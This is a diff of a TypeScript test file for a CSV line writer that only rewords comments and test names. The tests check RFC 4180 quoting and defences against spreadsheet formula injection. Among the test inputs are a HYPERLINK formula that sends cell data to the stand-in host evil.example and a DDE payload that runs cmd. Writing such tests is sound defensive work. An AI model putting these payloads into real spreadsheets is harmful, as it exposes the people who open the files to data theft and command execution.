@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { csvLine } from './csv.ts';
 
-/** The cells of one line as a reader of RFC 4180 sees them. */
+/** Parses one line as RFC 4180 does. */
 function read(line: string): string[] {
   expect(line.endsWith('\r\n')).toBe(true);
   const cells: string[] = [];
@@ -16,7 +16,7 @@ function read(line: string): string[] {
 }
 
 describe('a line', () => {
-  test('ends with CR LF, quotes what has to be quoted and doubles quotes', () => {
+  test('ends with CR LF, quotes cells where needed and doubles quotes', () => {
     expect(csvLine(['a', 'b c', null, ''])).toBe('a,b c,,\r\n');
     expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'two\r\nlines'])).toBe(
       '"a,b","say ""hi""","two\nlines","two\r\nlines"\r\n',
@@ -42,7 +42,7 @@ describe('a line', () => {
   });
 });
 
-describe('what could start a formula', () => {
+describe('a possible formula', () => {
   test.each([
     '=HYPERLINK("https://evil.example?x="&A1,"Click")',
     "+cmd|' /C calc'!A0",
@@ -82,7 +82,7 @@ describe('what could start a formula', () => {
     expect(read(csvLine([text]))).toEqual([shown]);
   });
 
-  test('takes a long text in a moment', () => {
+  test('is found in linear time', () => {
     const text = `a${';'.repeat(30_000)}${';\t\n "'.repeat(30_000)}${' '.repeat(30_000)}`;
     const begin = performance.now();
     expect(read(csvLine([text]))).toEqual([text]);
